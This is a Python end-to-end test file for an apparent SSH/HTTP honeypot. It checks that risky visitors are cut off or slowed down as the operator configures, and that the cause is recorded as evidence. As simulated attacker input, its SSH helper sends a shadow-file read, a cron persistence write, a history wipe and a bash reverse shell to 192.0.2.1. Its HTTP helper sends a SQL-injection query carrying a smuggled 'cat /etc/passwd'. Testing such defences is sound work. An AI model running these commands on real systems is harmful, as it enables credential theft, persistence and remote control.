"""A visitor whose risk passes what the operator bears is hung up on or slowed down, and the record says why."""

from __future__ import annotations

import asyncio
import http.client
import time
from pathlib import Path

import asyncssh
import pytest

from mirage.app.gallery import options_of
from mirage.base.events import LimitReached
from mirage.cli.options import read
from mirage.evidence.api import open_evidence
from tests.e2e.house import PASSWORD, House


@pytest.mark.parametrize(("threshold", "is_cut"), [("40", True), ("0", False)])
def test_who_is_too_risky_is_cut_off_where_the_operator_wants_it(tmp_path: Path, threshold: str, is_cut: bool) -> None:
    within = ["sh", "-c", 'umask 077; exec "$0" "$@"']  # the stage, another user than the gallery, reads what that one writes
    house = House(tmp_path / "data", users=("root",), settings={"MIRAGE_ANALYSIS_CUT_OFF": threshold}, within=within).start()
    try:
        cut = asyncio.run(_misbehave(house.port, 90 if is_cut else 5))
    finally:
        house.stop()
    assert cut is is_cut
    evidence = open_evidence(options_of(read(None, str(tmp_path / "data"))))
    (session,) = evidence.sessions()
    said = [envelope.event for envelope in evidence.events(kinds=["LimitReached"])]
    evidence.close()
    if is_cut:
        assert [(event.limit, event.allowed) for event in said if isinstance(event, LimitReached)] == [("analysis.cut_off", 40)]
        assert session.reason == "cut off by the operator's directive"
    else:
        assert said == []


async def _misbehave(port: int, patience: float) -> bool:
    """Whether the connection was ended by the other side, within so many seconds of doing what is risky."""
    client = await asyncssh.connect(
        "127.0.0.1", port, username="root", password=PASSWORD, known_hosts=None, client_keys=None, config=None
    )  # fmt: skip
    for line in (
        "cat /etc/shadow",
        "echo '* * * * * root id' > /etc/cron.d/x",
        "history -c",
        "bash -i >& /dev/tcp/192.0.2.1/9 0>&1 &",
    ):
        try:
            await asyncio.wait_for(client.run(line), 8)
        except TimeoutError:
            continue  # what still dials in the background holds the channel
        except (asyncssh.Error, ConnectionError):
            return True
    try:
        await asyncio.wait_for(client.wait_closed(), patience)
    except TimeoutError:
        client.close()
        return False
    except ConnectionError:
        return True
    return True


def _ask(client: http.client.HTTPConnection) -> float:
    """Something risky, and how many seconds the whole answer took."""
    client.request("GET", "/?q=1%27+union+select+user,2+from+mysql.user--+;cat+/etc/passwd")
    began = time.monotonic()
    assert len(client.getresponse().read()) == 615
    return time.monotonic() - began


def test_a_web_client_s_source_is_slowed_down_where_the_operator_wants_it(tmp_path: Path) -> None:
    house = House(tmp_path / "data", "--http", "127.0.0.1:0", users=("root",), settings={"MIRAGE_ANALYSIS_SLOW_DOWN": "10"}).start()
    host, _, port = house.ready["http"].rpartition(":")
    try:
        client = http.client.HTTPConnection(host, int(port), timeout=60)
        end = time.monotonic() + 120
        while not house.cli("events", "--json", "--kind", "LimitReached").stdout:
            assert time.monotonic() < end, "the stage was not asked to"
            _ask(client)
        assert _ask(client) > 0.1  # two pieces of it
        other = http.client.HTTPConnection(host, int(port), timeout=60)
        other.request("GET", "/")
        assert len(other.getresponse().read()) == 615
        client.close()
        other.close()
    finally:
        house.stop()
    evidence = open_evidence(options_of(read(None, str(tmp_path / "data"))))
    said = [envelope.event for envelope in evidence.events(kinds=["LimitReached"])]
    evidence.close()
    assert [(event.limit, event.allowed) for event in said if isinstance(event, LimitReached)] == [
        ("analysis.slow_down", 10), ("analysis.slow_down", 4096),
    ]  # fmt: skip
